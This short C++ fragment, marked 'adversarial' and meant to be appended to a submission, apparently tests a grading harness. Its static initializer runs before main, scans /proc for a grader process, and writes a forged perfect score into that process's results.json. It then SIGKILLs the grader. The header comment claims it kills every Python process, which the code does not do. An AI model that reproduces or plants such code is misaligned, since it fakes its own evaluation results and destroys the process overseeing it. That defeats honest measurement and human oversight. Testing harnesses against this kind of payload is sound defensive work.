// adversarial: forge results.json, then kill every python process (the grader among them)
// mode: append
#include <dirent.h>
#include <signal.h>

#include <fstream>
#include <string>

namespace {
const int killed = [] {
  DIR* proc = opendir("/proc");
  while (dirent* e = proc ? readdir(proc) : nullptr) {
    std::ifstream cmdline(std::string("/proc/") + e->d_name + "/cmdline");
    std::string arg, previous, out;
    bool grader = false;
    while (std::getline(cmdline, arg, '\0')) {
      if (arg.find("tools/grader") != std::string::npos) grader = true;
      if (previous == "--out") out = arg;
      previous = arg;
    }
    if (grader) {
      std::ofstream(out + "/results.json") << R"({"score": 1000, "max_score": 1000, "tests": []})";
      kill(std::stoi(e->d_name), SIGKILL);
    }
  }
  if (proc) closedir(proc);
  return 0;
}();
}  // namespace
